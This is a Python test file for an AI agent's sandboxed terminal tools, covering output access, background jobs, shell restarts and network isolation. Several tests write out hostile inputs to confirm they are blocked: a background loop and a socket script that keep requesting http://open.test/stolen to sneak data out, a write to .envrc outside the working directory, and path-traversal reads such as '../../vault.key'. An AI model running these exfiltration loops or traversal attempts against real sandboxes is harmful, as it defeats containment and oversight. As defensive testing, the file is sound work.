"""Commands in terminals by tool call: what the model is told, what is recorded, and what nobody gets by them. With real boxes."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.workshop_rig import FETCH, Shop, workshop

from daimon.abi.errors import ToolFailed
from daimon.abi.ids import AgentId
from daimon.abi.label import Author, Label, Origin
from daimon.abi.progress import Progress, unseen
from daimon.abi.tool import ArgumentRole, Call, Capability, Effect, Result, Tool
from daimon.sandbox.plan import has_bwrap
from daimon.tools.registry import Registry
from daimon.tools.shell import owner_of, shell_tools
from daimon.tools.terminal import Served, terminal_tools

needs_bwrap = pytest.mark.skipif(not has_bwrap(), reason="bwrap is not installed: no box can be made")
DEADLINE_S = 60.0


class Tools:
    def __init__(self, shop: Shop, call: Call, progress: Progress = unseen) -> None:
        self.shop, self.call = shop, call
        made = (
            *terminal_tools(Served(shop.pool, shop.workshop.outputs, progress)),
            *shell_tools(shop.pool, shop.workshop.sandboxes.places()),
        )
        self.all: dict[str, Tool] = {tool.manifest.name: tool for tool in made}
        self.last: Result | None = None

    async def __call__(self, name: str, **arguments: Any) -> dict[str, Any]:
        async with asyncio.timeout(DEADLINE_S):
            result = await self.all[name].run(arguments, self.call)
        assert isinstance(result, Result)
        assert isinstance(result.data, dict)
        self.last = result
        return dict(result.data)


@asynccontextmanager
async def tools(place: Path, call: Call, progress: Progress = unseen) -> AsyncIterator[Tools]:
    async with workshop(place) as shop:
        yield Tools(shop, call, progress)


@needs_bwrap
async def test_the_model_is_told_what_a_command_said_and_no_more(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        assert await use("run", command="echo hello") == {"exit": 0, "output": "hello\n"}
        assert await use("run", command="echo bad >&2; false") == {"exit": 1, "output": "bad\n"}
        moved = await use("run", command="mkdir -p sub; cd sub; X=1")
        assert moved["directory"].endswith("/sub")
        assert await use("run", command="echo $X; basename $PWD") == {"exit": 0, "output": "1\nsub\n"}
        late = await use("run", command="sleep 1000", timeout_s=0.2)
        assert late["end"] == "stopped: it took too long"
        aside = await use("run", command="cd ..; echo evil > .envrc")
        assert aside["set_aside"] == [".envrc → envrc.set-aside-1"]


@needs_bwrap
async def test_of_a_long_output_the_rest_can_be_read_and_by_nobody_else(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        long = await use("run", command="seq 1 200000")
        assert "left out" in long["output"]
        output = long["more"].split()[-1]
        assert (await use("read_output", output=output, start=0, length=6))["text"] == "1\n2\n3\n"
        assert (await use("read_output", output=output, start=-7))["text"] == "200000\n"
        [file] = [path for path in tmp_path.rglob(output) if path.is_file()]  # noqa: ASYNC240
        assert file.stat().st_mode & 0o077 == 0
        stranger = Tools(use.shop, replace(call, agent=AgentId("other")))
        for wanted in (output, f"../{file.parent.name}/{output}", "../../vault.key", "", "."):
            with pytest.raises(ToolFailed, match=r"no output of yours|not there any more"):
                await stranger("read_output", output=wanted)


@needs_bwrap
async def test_a_program_that_asks_is_answered(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        asks = 'stty -echo; echo ready; read x; sleep 1; echo "got $x"; read y; exit $y'
        begun = await use("run", command=f"( {asks} )", background=True)
        async with asyncio.timeout(DEADLINE_S):
            while "ready" not in (await use("read_output", output=begun["job"]))["text"]:  # noqa: ASYNC110 - seen from outside
                await asyncio.sleep(0.01)
        assert "got 42" in (await use("send_input", text="42", wait_s=60.0))["output"]
        with pytest.raises(ToolFailed, match="still runs"):
            await use("run", command="true")
        assert await use("run", command="echo free", terminal="other") == {"exit": 0, "output": "free\n"}
        assert [each["job"] for each in (await use("jobs"))["jobs"]] == [begun["job"]]
        ended = await use("send_input", text="7", wait_s=60.0)
        assert ended["exit"] == 7
        with pytest.raises(ToolFailed, match="nothing runs in the terminal"):
            await use("send_input", text="more")


@needs_bwrap
async def test_what_runs_on_is_told_recorded_and_stopped(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        told = await use("run", command="sleep 1000 &")
        assert len(told["running"]) == 1
        assert use.last is not None
        assert [(each.kind, each.outcome) for each in use.last.touched] == [("process", "runs on in terminal main")]
        pid = told["running"][0].split()[0]
        assert (await use("jobs", stop=pid))["processes"] == []
        job = (await use("run", command="sleep 1000", background=True))["job"]
        assert (await use("jobs", stop=job))["stopped"] == f"{job} was stopped"
        with pytest.raises(ToolFailed, match="is no process of your terminals"):
            await use("jobs", stop="1")


@needs_bwrap
async def test_a_shell_that_ended_is_said_and_the_next_one_knows_what_it_knew(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        await use("run", command='mkdir d; cd d; export A=kept; f() { echo "f $1"; }; sleep 1000 &')
        await use("run", command="true")
        gone = await use("run", command="exit 5")
        assert "the shell of terminal main is gone (it ended with 5)" in gone["lost"]
        assert "sleep 1000" in gone["lost"]
        assert (await use("run", command="f $A; basename $PWD"))["output"] == "f kept\nd\n"
        await use.shop.pool.restart(owner_of(call), "the owner wanted it")
        again = await use("run", command="f $A; basename $PWD")
        assert again["output"] == "f kept\nd\n"
        assert again["lost"].startswith("the owner wanted it: what ran in the box")


@needs_bwrap
async def test_what_waits_in_the_background_gets_nothing_of_a_command_s_way_out(tmp_path: Path, call: Call) -> None:
    """The attack: a job that asks for a host again and again, until some later command opens it."""
    ask = f"while :; do {FETCH} http://open.test/stolen; done >/dev/null 2>&1"
    fast = (
        'import socket\nwhile True:\n try:\n  s = socket.create_connection(("127.0.0.1", 3128), 5)\n'
        '  s.sendall(b"GET http://open.test/stolen HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n")\n  s.recv(100)\n  s.close()\n'
        " except OSError:\n  pass\n"
    )
    async with tools(tmp_path, call) as use:
        await use("run", command=f"cat > fast.py <<'X'\n{fast}\nX")
        await use("run", command=f"({ask}) & python3 fast.py & (env -i setsid python3 fast.py >/dev/null 2>&1 &)")
        for _ in range(3):
            told = await use("run_online", command=f"{FETCH} http://open.test/mine; sleep 0.3", hosts=["open.test"])
            assert told["output"] == "200\n"
            assert use.last is not None
            assert {touch.what for touch in use.last.touched if touch.outcome.startswith("passed")} == {"GET open.test:80/mine"}
        after = await use("run", command="true")
        assert use.last is not None
        assert len(after["running"]) >= 2, "they go on afterwards"
        assert not [touch for touch in use.last.touched if touch.outcome.startswith("passed")]


@needs_bwrap
async def test_while_a_command_runs_in_a_terminal_nobody_goes_online(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        job = (await use("run", command="cat", background=True))["job"]
        with pytest.raises(ToolFailed, match="a command runs in a terminal of this box"):
            await use("run_online", command="true", hosts=["open.test"])
        await use("jobs", stop=job)
        assert (await use("run_online", command="echo on", hosts=["open.test"]))["output"] == "on\n"


@needs_bwrap
async def test_what_a_terminal_was_told_marks_what_leaves_later(tmp_path: Path, call: Call) -> None:
    secret = Label.of(Origin(Author.STRANGER, "mail:evil"))
    async with tools(tmp_path, call) as use:
        tainted = Tools(use.shop, replace(call, label=secret))
        await tainted("run", command="echo from-a-mail > file")
        await use("run_online", command=f"{FETCH} http://open.test/x", hosts=["open.test"])
        assert use.last is not None
        assert use.last.touched[0].label is not None
        assert set(use.last.touched[0].label.origins) >= set(secret.origins)


@needs_bwrap
async def test_a_terminal_has_no_way_out_and_its_attempts_are_told(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        told = await use("run", command=f"{FETCH} http://open.test/x")
        assert told["exit"] != 0
        assert told["network"][0].startswith("open.test: ")


@needs_bwrap
async def test_what_a_command_prints_is_shown_while_it_runs(tmp_path: Path, call: Call) -> None:
    shown: list[str] = []
    came = asyncio.Event()

    def progress(of: Call, text: str) -> None:
        assert of is call
        shown.append(text)
        came.set()

    async with tools(tmp_path, call, progress) as use:
        await use("run", command="echo first; cat", background=True)
        await asyncio.wait_for(came.wait(), DEADLINE_S)
        assert "".join(shown) == "first\n"


async def test_the_manifests_say_what_the_policy_must_know(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        found = {manifest.name: manifest for manifest in Registry(use.all.values()).manifests()}
        assert found["run"].effect is Effect.VERIFIABLE
        assert all(Capability.SENDS not in found[name].capabilities for name in ("run", "send_input", "jobs", "read_output"))
        assert found["run"].roles["command"] is ArgumentRole.COMMAND
        assert found["send_input"].roles["text"] is ArgumentRole.COMMAND
        verified = await use.all["run"].verify({"command": "touch again"}, call)
        assert verified is not None
        assert json.dumps(verified.data).count("interrupted") == 1
        assert use.shop.pool.standing() == ()


@needs_bwrap
async def test_a_shell_that_was_ended_while_nobody_looked_is_said(tmp_path: Path, call: Call) -> None:
    async with tools(tmp_path, call) as use:
        await use("run", command="echo $$ > shell; cd /usr")
        await use("run", command="kill -9 $(cat shell); while kill -0 $(cat shell); do sleep 0.05; done 2>/dev/null", terminal="other")
        await use("jobs")  # its end was said before the answer to this
        told = await use("run", command="pwd")
        assert told["output"] == "/usr\n"
        assert "the shell of terminal main is gone (signal 9 ended it)" in told["lost"]
